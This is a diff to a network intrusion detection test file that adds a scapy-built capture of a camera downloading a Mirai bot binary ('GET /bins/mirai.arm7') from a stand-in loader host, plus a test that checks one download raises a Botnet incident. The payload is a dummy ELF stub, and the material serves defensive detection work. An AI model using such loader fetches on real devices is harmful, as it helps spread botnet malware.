@@ -11,6 +11,8 @@ every flow as one family: what the gate lets through then depends only on the tr
 * Zeek's VNC scanner capture: one connection, no volume, held and dropped (documented as missed).
 * DVWA directory traversal and SQL injection: whatever the models say (here: nothing), the injection indicators
   of the HTTP requests raise a WebAttack incident on the first request, explained by the indicator count.
+* A device fetching a bot binary over HTTP (packets built with scapy: no public capture here carries an ELF
+  file): whatever the models say, one download raises a Botnet incident naming the device.
 """
 
 from __future__ import annotations
@@ -192,3 +194,58 @@ def test_the_slow_http_check_leaves_a_models_verdict_alone():
     )
     events = engine.process(_slow_rows(3, 45.0))
     assert {(e.alert.family, e.alert.model) for e in events} == {("BruteForce", "always-BruteForce")}
+
+
+def _download_capture(path) -> None:
+    """A camera (192.168.1.20) checking its vendor's server for firmware, then fetching a bot binary from a
+    loader (203.0.113.9) with wget as Mirai's loader has it do; the loader writes the head, then the file."""
+    from scapy.layers.inet import IP, TCP
+    from scapy.layers.l2 import Ether
+    from scapy.utils import wrpcap
+
+    cam = "192.168.1.20"
+    elf = b"\x7fELF\x01\x01\x01\x61" + bytes(8) + b"\x02\x00\x28\x00" + bytes(1300)
+    head = b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: 1320\r\n\r\n"
+    frames = []
+    for server, sport, request, answer in (
+        (
+            "198.51.100.7",
+            41000,
+            b"GET /firmware/latest?model=cam HTTP/1.1\r\nHost: fw\r\n\r\n",
+            [head + b"{}"],
+        ),
+        ("203.0.113.9", 41001, b"GET /bins/mirai.arm7 HTTP/1.0\r\nHost: 203.0.113.9\r\n\r\n", [head, elf]),
+    ):
+        up = Ether() / IP(src=cam, dst=server) / TCP(sport=sport, dport=80)
+        down = Ether() / IP(src=server, dst=cam) / TCP(sport=80, dport=sport)
+        steps = [(up, "S", b""), (down, "SA", b""), (up, "A", b""), (up, "PA", request)]
+        steps += [(down, "PA", a) for a in answer] + [(down, "FA", b""), (up, "FA", b""), (down, "A", b"")]
+        for side, flags, payload in steps:
+            frame = side.copy()
+            frame[TCP].flags = flags
+            frames.append(frame / payload if payload else frame)
+    for k, f in enumerate(frames):
+        f.time = 1_500_000_000 + k * 0.01
+    wrpcap(str(path), frames)
+
+
+def test_a_device_downloading_an_executable_raises_a_botnet_incident_at_once(tmp_path):
+    path = tmp_path / "download.pcap"
+    _download_capture(path)
+    assert _run(path, "Benign", DetectionConfig(elf_downloads=None)).stats.flagged == 0
+    comp = Component("classifier", _Flags("Benign"), 0.0, Calibration("logistic", np.zeros(0), np.zeros(0)))
+    engine = DetectionEngine(Detector(comp, None))
+    events = [e for batch in iter_flows(path, early=10) for e in engine.process(batch)]
+    engine.close()
+    # one flow is enough (a model's Botnet alert needs two flows): a rule's match is its own evidence
+    assert engine.stats.incidents == 1 and engine.stats.insufficient_evidence == 0
+    assert {(e.alert.family, e.alert.model, e.alert.src_ip, e.alert.dest_ip) for e in events} == {
+        ("Botnet", "download-check", "192.168.1.20", "203.0.113.9")
+    }
+    assert all(e.alert.top_features == [("elf_downloads", 1.0)] for e in events)
+    # a model's verdict on the same flow is overridden by the rule's (the download names the family)
+    engine = _run(path, "DoS", DetectionConfig(evidence=EvidenceConfig(enabled=False)))
+    assert engine.stats.by_family == {"DoS": 1, "Botnet": 1}
+    # served from inside the site (an infected peer), it is still a Botnet download, not a re-labelled guess
+    engine = _run(path, "Benign", DetectionConfig(site_networks=["192.168.0.0/16", "203.0.113.0/24"]))
+    assert engine.stats.by_family == {"Botnet": 1} and engine.stats.inside_site == 0
